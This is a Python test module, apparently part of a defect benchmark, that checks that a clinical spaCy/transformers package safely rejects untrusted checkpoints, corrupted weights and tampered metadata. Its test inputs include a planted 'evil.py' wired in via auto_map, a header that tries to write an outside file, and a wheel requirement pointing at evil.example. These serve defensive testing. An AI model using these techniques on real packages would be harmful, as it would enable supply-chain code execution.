"""Packages and checkpoints of other people that run code, write files or are silently wrong."""

import json

from benchmarks.defects.case import Seen, Tree, case

# Makes a tiny encoder and a pipeline over it with the public API; `change(header)` is appended.
MAKE = """
import json, pathlib, spacy, torch
import tokenizers as tk
from transformers import BertConfig, BertModel, BertForTokenClassification, PreTrainedTokenizerFast
words = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "paciente", "con", "tos", "."]
vocab = {word: i for i, word in enumerate(words)}
raw = tk.Tokenizer(tk.models.WordPiece(vocab, unk_token="[UNK]"))
raw.pre_tokenizer = tk.pre_tokenizers.BertPreTokenizer()
raw.post_processor = tk.processors.BertProcessing(("[SEP]", 3), ("[CLS]", 2))
names = dict(cls_token="[CLS]", sep_token="[SEP]", pad_token="[PAD]", unk_token="[UNK]")
tokenizer = PreTrainedTokenizerFast(tokenizer_object=raw, model_max_length=64, **names)
shape = dict(vocab_size=8, hidden_size=16, num_hidden_layers=1, num_attention_heads=2)
shape |= dict(intermediate_size=16, max_position_embeddings=64)
labels = {0: "O", 1: "B-X", 2: "I-X"}
model = BertForTokenClassification(BertConfig(**shape, id2label=labels))
model.save_pretrained("checkpoint")
tokenizer.save_pretrained("checkpoint")
"""
PACKAGE = (
    MAKE
    + """
nlp = spacy.blank("es")
encoder = {"@architectures": "spacy-bioclin.Encoder.v1", "name": "checkpoint", "window": 32}
nlp.add_pipe("transformer", config={"model": encoder})
nlp.initialize()
nlp.to_disk("package")
path = pathlib.Path("package/transformer/model")
from spacy_bioclin.torch_bridge.weights_io import pack_weights, unpack_weights
header, weights = unpack_weights(path.read_bytes())
weights = {name: weight.clone() for name, weight in weights.items()}
"""
)
SAVE = "\npath.write_bytes(pack_weights(header, weights))\n"
LOAD = "import spacy; spacy.load('package')('paciente con tos .'); print('loaded')"


def load_changed(tree: Tree, change: str) -> str:
    made = tree.python("-c", PACKAGE + change + SAVE)
    if made.code:
        raise RuntimeError(made.err[-500:])
    done = tree.python("-c", LOAD, timeout=60)
    return (done.out + done.err).strip()


@case(1, "Loading a package writes no file that its header names.")
def package_writes_no_named_file(tree: Tree) -> Seen:
    target = tree.folder / "outside.txt"
    load_changed(tree, f"header['tokenizer'][{str(target)!r}] = 'written'")
    return Seen(not target.exists(), "written" if target.exists() else "not written")


@case(1, "Code beside a checkpoint is not run, whatever is answered on stdin.")
def code_of_a_checkpoint_is_not_run(tree: Tree) -> Seen:
    tree.python("-c", MAKE)
    mark = tree.folder / "executed"
    tree.write("checkpoint/evil.py", f"open({str(mark)!r}, 'w')\nclass Evil: pass\n")
    for file, auto in (
        ("config.json", {"AutoModelForTokenClassification": "evil.Evil"}),
        ("tokenizer_config.json", {"AutoTokenizer": ["evil.Evil", "evil.Evil"]}),
    ):
        path = tree.folder / "checkpoint" / file
        path.write_text(json.dumps({**json.loads(path.read_text()), "auto_map": auto}))
    done = tree.bioclin("import-hf", "checkpoint", "-o", "out", stdin="y\n" * 50)
    return Seen(not mark.exists() and done.code == 0, "run" if mark.exists() else "not run")


@case(1, "A pickle of a pipeline does not hold the secret key.")
def pickle_has_no_key(tree: Tree) -> Seen:
    code = (
        "import pickle; from spacy import blank; from spacy_bioclin.deid import make_pipeline\n"
        "nlp = make_pipeline(blank('es'), policy={'default': 'hash'}, key=b'0123456789abcdef')\n"
        "print(b'0123456789abcdef' in pickle.dumps(nlp))\n"
    )
    done = tree.python("-c", code)
    return Seen(done.out.strip() == "False", f"key in the pickle: {done.out.strip()}")


@case(6, "Weights that are NaN are refused: such a pipeline finds rubbish in silence.")
def nan_weights_are_refused(tree: Tree) -> Seen:
    shown = load_changed(tree, "next(iter(weights.values())).fill_(float('nan'))")
    return Seen("loaded" not in shown and "not finite" in shown, shown[-120:])


@case(6, "A cut file of weights is one line that says so.")
def cut_weights_are_one_line(tree: Tree) -> Seen:
    load_changed(tree, "")
    path = tree.folder / "package/transformer/model"
    path.write_bytes(path.read_bytes()[:4096])
    note = tree.write("note.txt", "paciente con tos .")
    done = tree.bioclin("annotate", "package", note)
    return Seen(done.code == 1 and not done.crashed and "cut short" in done.text, done.text[-120:])


@case(6, "A cut model.safetensors, or a config.json that is a list, is one line.")
def damaged_checkpoints_are_one_line(tree: Tree) -> Seen:
    tree.python("-c", MAKE)
    weights, bad = tree.folder / "checkpoint/model.safetensors", []
    content = weights.read_bytes()
    weights.write_bytes(content[: len(content) // 2])
    for what in ("cut weights", "config is a list"):
        done = tree.bioclin("import-hf", "checkpoint", "-o", "out")
        if done.code != 1 or done.crashed or not done.text.startswith("bioclin:"):
            bad.append(what)
        weights.write_bytes(content)
        tree.write("checkpoint/config.json", "[]")
    return Seen(not bad, bad)


@case(8, "A number of layers in a package does not decide how much memory is taken.")
def layers_of_a_package_are_bounded(tree: Tree) -> Seen:
    shown = load_changed(tree, "header['config']['num_hidden_layers'] = 9000")
    return Seen("BioclinError" in shown and "stored" in shown, shown[-120:])


@case(8, "What meta.json of a pipeline requires does not become a requirement of its wheel.")
def meta_decides_no_requirement(tree: Tree) -> Seen:
    load_changed(tree, "")
    path = tree.folder / "package/meta.json"
    evil = {"setup_requires": ["evil @ https://evil.example/e.whl"]}
    path.write_text(json.dumps({**json.loads(path.read_text()), **evil}))
    options = ("--name", "x", "--version", "0.1")
    done = tree.bioclin("package", "package", "out", *options)
    read = (
        "import pathlib, zipfile\n"
        "[w] = pathlib.Path('out').glob('*.whl'); z = zipfile.ZipFile(w)\n"
        "print('evil.example' in z.read([n for n in z.namelist() if 'METADATA' in n][0]).decode())"
    )
    found = tree.python("-c", read).out.strip()
    return Seen(done.code == 0 and found == "False", f"required: {found}")
